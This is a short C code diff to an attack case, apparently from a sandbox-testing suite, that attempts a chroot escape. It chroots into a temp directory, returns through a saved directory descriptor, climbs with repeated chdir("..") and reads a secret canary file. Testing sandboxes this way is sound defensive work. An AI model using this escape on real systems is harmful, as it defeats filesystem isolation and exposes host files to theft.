@@ -13,10 +13,14 @@ ATTACK(FILES, "root", .gain = "all of the host's files, past the root", .source 
 	if (!mkdtemp(dir))
 		return NOT_HERE;
 	r = chroot(dir);
-	rmdir(dir);
-	if (r < 0 || fchdir(up) < 0)
-		return -1;
+	if (r < 0 || fchdir(up) < 0) {
+		int error = errno;
+
+		rmdir(dir);
+		return denied(error);
+	}
 	for (int i = 0; i < 64; i++)
 		r = chdir("..");
+	rmdir(dir + 1);
 	return read_canary(open(target("secret") + 1, O_RDONLY | O_CLOEXEC));
 }
